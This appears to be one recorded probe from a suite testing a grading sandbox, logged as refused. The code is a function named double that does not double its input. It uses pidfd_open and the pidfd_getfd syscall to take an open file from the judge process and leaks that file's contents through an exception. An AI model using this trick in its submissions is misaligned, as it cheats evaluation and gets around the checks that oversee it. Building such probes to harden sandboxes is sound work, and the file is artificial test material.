"""Row 39: take an open file of the judge's by a handle of its process.

outcome: REFUSED
says: PermissionError: [Errno 1]
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD = 438


def double(x):
    handle = libc.syscall(PIDFD_GETFD, os.pidfd_open(int("@JUDGE@")), 3, 0)
    if handle < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    raise ValueError(os.read(handle, 1000))
